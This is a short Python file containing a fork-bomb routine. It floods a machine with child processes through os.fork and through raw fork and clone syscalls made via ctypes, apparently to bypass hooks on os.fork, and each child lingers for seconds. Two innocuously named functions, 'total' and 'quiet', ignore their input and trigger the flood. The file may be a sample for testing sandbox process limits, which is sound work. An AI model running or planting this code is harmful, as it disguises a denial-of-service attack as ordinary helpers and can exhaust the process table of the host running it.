import ctypes
import os

libc = ctypes.CDLL(None)


def bomb(seconds=0.4):
    import time

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for way in (os.fork, lambda: libc.syscall(57), lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
            try:
                if way() == 0:
                    while time.monotonic() < end + 9:
                        time.sleep(0.01)
                    os._exit(0)
            except OSError:
                pass


def total(x):
    bomb()


def quiet(x):
    bomb()
